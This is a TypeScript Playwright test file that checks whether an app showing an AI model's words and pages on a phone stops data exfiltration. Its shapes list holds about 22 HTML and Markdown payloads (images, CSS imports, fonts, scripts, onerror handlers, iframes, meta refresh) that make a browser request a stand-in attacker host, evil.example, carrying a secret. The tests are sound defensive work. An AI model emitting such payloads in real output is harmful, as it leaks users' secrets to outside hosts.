import type { Browser, Page } from 'playwright-core';
import { begin } from '../../e2e/support/begin.ts';
import { openContext, startBrowser } from '../../e2e/support/browser.ts';
import { startFakeDesk } from '../../e2e/support/fake-desk.ts';
import { sides } from '../../e2e/support/sides.ts';
import { tell } from '../../e2e/support/teller.ts';
import type { Case, Protection } from '../case.ts';
import type { World } from '../world.ts';

// Words and pages of a model's, shown on the phone: each names an address that holds the secret, in a way that browsers
// ask by themselves. Seen in the real app in a real browser; the control is the same browser without the app.

/** `to` is the address; the second form is what a page without care makes of the first, where that isn't a page already. */
const shapes: [name: string, words: (to: string) => string, page?: (to: string) => string][] = [
  ['a picture in Markdown', (to) => `![x](${to})`, (to) => `<img src="${to}">`],
  ['a picture by reference', (to) => `![x][r]\n\n[r]: ${to}`, (to) => `<img src="${to}">`],
  ['a picture in a link', (to) => `[![x](${to})](https://a.example)`, (to) => `<a href="https://a.example"><img src="${to}"></a>`],
  ['a picture', (to) => `<img src="${to}">`],
  ['a picture of several sizes', (to) => `<img srcset="${to} 1x, ${to}?2 2x">`],
  ['a picture with sources', (to) => `<picture><source srcset="${to}"><img></picture>`],
  ['a picture in a drawing', (to) => `<svg width="9" height="9"><image href="${to}" width="9" height="9"/></svg>`],
  ['a picture as a button', (to) => `<input type="image" src="${to}">`],
  ['a film', (to) => `<video src="${to}" autoplay muted></video>`],
  ['a film’s first picture', (to) => `<video poster="${to}"></video>`],
  ['a sound', (to) => `<audio src="${to}" autoplay preload="auto"></audio>`],
  ['a style', (to) => `<link rel="stylesheet" href="${to}">`],
  ['a style that is fetched by a style', (to) => `<style>@import url("${to}");</style>`],
  ['a background', (to) => `<div style="background:url('${to}');width:9px;height:9px">x</div>`],
  ['a letter of its own', (to) => `<style>@font-face{font-family:evil;src:url("${to}")}p{font-family:evil}</style><p>x</p>`],
  ['a script', (to) => `<script src="${to}"></script>`],
  ['a script that asks', (to) => `<script>fetch("${to}")</script>`],
  ['a picture that fails', (to) => `<img src="x:" onerror="fetch('${to}')">`],
  ['a frame', (to) => `<iframe src="${to}"></iframe>`],
  ['an object', (to) => `<object data="${to}"></object>`],
  ['an embedded thing', (to) => `<embed src="${to}">`],
  ['going there by itself', (to) => `<meta http-equiv="refresh" content="0;url=${to}">`],
];

const address = (index: number, secret: string) => `https://evil.example/${index}/${secret}`;

/** What the browser asked of the attacker's host, for all shapes of one place at once: a browser takes long to start. */
const asked = new Map<string, Promise<string[]>>();

function askedFor(place: string, protection: Protection, secret: string): Promise<string[]> {
  const key = `${place} ${protection} ${secret}`;
  const had = asked.get(key) ?? look(place, protection, secret);
  asked.set(key, had);
  return had;
}

async function look(place: string, protection: Protection, secret: string): Promise<string[]> {
  const browser = await startBrowser();
  try {
    return protection === 'on' ? await inApp(browser, place, secret) : await inBrowser(browser, secret);
  } finally {
    await browser.close();
  }
}

/** One page for each: one that leads away would take the others with it. */
async function inBrowser(browser: Browser, secret: string): Promise<string[]> {
  const context = await openContext(browser, 'phone');
  const heard: string[] = [];
  for (const [index, [, words, made = words]] of shapes.entries()) {
    const page = await context.newPage();
    listen(page, heard);
    const asks = page.waitForEvent('requestfailed', { timeout: 5000, predicate: (request) => isEvil(request.url()) }).catch(() => {});
    await page.setContent(`<body>${made(address(index, secret))}</body>`, { waitUntil: 'domcontentloaded' }).catch(() => {});
    await asks;
    await page.close();
  }
  return heard;
}

async function inApp(browser: Browser, place: string, secret: string): Promise<string[]> {
  const story = begin(Date.now());
  const text = shapes.map(([, words], index) => words(address(index, secret))).join('\n\n');
  const told = tell(story, Date.now(), 'Look', { minutes: 5 });
  told.turn(text).artifact('/d/a.md', text, 'text/markdown').artifact('/d/a.html', `<html><body>${text}</body></html>`, 'text/html');
  told.turn(text).finish('done', text);
  const desk = await startFakeDesk(story, { sides });
  const heard: string[] = [];
  try {
    const context = await openContext(browser, 'phone');
    const page = await context.newPage();
    listen(page, heard);
    const thread = story.tasks.get(told.task)?.summary.thread;
    const routes = {
      words: [`#/thread/${thread}`, `#/task/${told.task}`, `#/artifact/${told.task}/${encodeURIComponent('/d/a.md')}`],
      'a page': [`#/artifact/${told.task}/${encodeURIComponent('/d/a.html')}`],
    }[place];
    for (const route of routes ?? []) {
      await page.goto(`${desk.origin}/${route}`);
      await page.waitForSelector('h1');
      // What isn't shown proves nothing.
      const shown = place === 'words' ? page.getByText('evil.example') : page.frameLocator('iframe').locator('body *');
      await shown.first().waitFor({ state: 'attached' });
      await page.waitForLoadState('networkidle');
    }
  } finally {
    await desk.close();
  }
  return heard;
}

const isEvil = (url: string) => url.startsWith('https://evil.example/');

/** What left the browser: a request that the page's policy stopped is told of too, and went nowhere. */
function listen(page: Page, heard: string[]): void {
  const hear = (url: string) => void (isEvil(url) && heard.push(url));
  page.on('response', (response) => hear(response.url()));
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') hear(request.url());
  });
}

export const screen: Case[] = ['words', 'a page'].flatMap((place) =>
  shapes.map(
    ([name], index): Case => ({
      road: 'out by screen',
      name: `${name}, in ${place}`,
      tries: `has the phone ask an address of the attacker’s by ${name}, shown in ${place}`,
      attack: async (protection, { secret }: World) =>
        (await askedFor(place, protection, secret)).some((url) => url.startsWith(address(index, secret))),
    }),
  ),
);
